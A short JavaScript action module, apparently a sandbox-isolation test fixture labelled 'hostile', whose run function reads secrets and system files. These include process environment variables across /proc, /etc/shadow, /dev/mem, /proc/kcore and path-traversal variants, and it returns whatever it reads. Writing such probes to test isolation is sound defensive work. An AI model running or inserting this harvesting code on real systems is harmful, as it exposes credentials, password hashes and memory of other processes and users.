// expect: any
export default {
  key: 'hostile', version: '0.0.1', type: 'action', props: {},
  async run({ $ }) {
    const { readFileSync, readdirSync } = await import('node:fs'); const told = [];
    const paths = ['/proc/1/environ', '/proc/%PID%/environ', '/proc/%PID%/root%FILE%', '/proc/1/root%FILE%', '/proc/self/cwd/%FILE%',
      '/proc/self/root%FILE%', '/etc/shadow', '%FILE%', '/../..%FILE%', '/proc/self/environ', '/dev/mem', '/proc/kcore'];
    for (const path of paths) try { told.push(readFileSync(path, 'latin1')); } catch (error) { told.push(error.code); }
    try { for (const it of readdirSync('/proc')) told.push(readFileSync(`/proc/${it}/environ`, 'latin1')); } catch {}
    return told;
  },
};
